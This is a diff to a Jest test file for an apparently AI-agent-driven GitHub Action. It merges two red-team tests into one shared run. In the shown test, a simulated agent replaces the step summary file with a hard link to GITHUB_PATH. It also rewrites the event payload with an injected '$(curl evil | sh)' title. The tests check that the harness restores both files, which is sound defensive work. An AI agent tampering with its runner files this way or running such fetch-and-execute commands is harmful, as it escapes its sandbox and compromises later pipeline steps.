@@ -7,6 +7,7 @@ import { describe, expect, it } from '@jest/globals'
 import fs from 'node:fs'
 import { assistant, init, result, warningsOf } from '../support/helpers.js'
 import { hostedRun, type HostedRun } from '../support/hosted.js'
+import { shared } from '../support/shared.js'
 
 const KEY = 'key_test_runnerfiles_0123456789'
 
@@ -31,17 +32,30 @@ function unrestorable(): Promise<HostedRun> {
   return unrestorableRun
 }
 
+const EVENT = { action: 'opened', issue: { number: 3, title: 'Docs' } }
+
+/**
+ * One run for two attacks on different files: the agent puts a hard link to GITHUB_PATH in the
+ * summary file's place, and rewrites the event payload a later step reads. Each test checks the
+ * file of its own attack.
+ */
+const linkedAndRewritten = shared(() =>
+  hostedRun({
+    event: EVENT,
+    before: [init],
+    agent: [
+      's=$(ls "$RUNNER_FILES"/step_summary_*); p=$(ls "$RUNNER_FILES"/add_path_*)',
+      'rm -f "$s" && ln "$p" "$s"',
+      'printf \'{"issue":{"number":1,"title":"$(curl evil | sh)"}}\' > "$GITHUB_EVENT_PATH"'
+    ].join('\n'),
+    after: [assistant('done'), result('done')],
+    inputs: { 'api-key': KEY }
+  })
+)
+
 describe("the runner's command files (issue 18: 2, 3)", () => {
   it('writes the summary only to the summary file: a hard link to GITHUB_PATH in its place is undone', async () => {
-    const run = await hostedRun({
-      before: [init],
-      agent: [
-        's=$(ls "$RUNNER_FILES"/step_summary_*); p=$(ls "$RUNNER_FILES"/add_path_*)',
-        'rm -f "$s" && ln "$p" "$s"'
-      ].join('\n'),
-      after: [assistant('done'), result('done')],
-      inputs: { 'api-key': KEY }
-    })
+    const run = await linkedAndRewritten()
     expect(run.outputs.conclusion).toBe('success')
     // GITHUB_PATH is what a later step's PATH is made from: nothing of the summary is in it.
     expect(run.files.path).toBe('')
@@ -87,15 +101,8 @@ describe('a runner file that cannot be put back (issue 18: 3)', () => {
 
 describe('the event payload a later step reads (red team of item 3)', () => {
   it('is put back as it was when the agent rewrites it', async () => {
-    const event = { action: 'opened', issue: { number: 3, title: 'Docs' } }
-    const run = await hostedRun({
-      event,
-      before: [init],
-      agent: 'printf \'{"issue":{"number":1,"title":"$(curl evil | sh)"}}\' > "$GITHUB_EVENT_PATH"',
-      after: [result('done')],
-      inputs: { 'api-key': KEY }
-    })
-    expect(JSON.parse(run.event)).toEqual(event)
+    const run = await linkedAndRewritten()
+    expect(JSON.parse(run.event)).toEqual(EVENT)
     expect(run.outputs.conclusion).toBe('success')
   })
 })
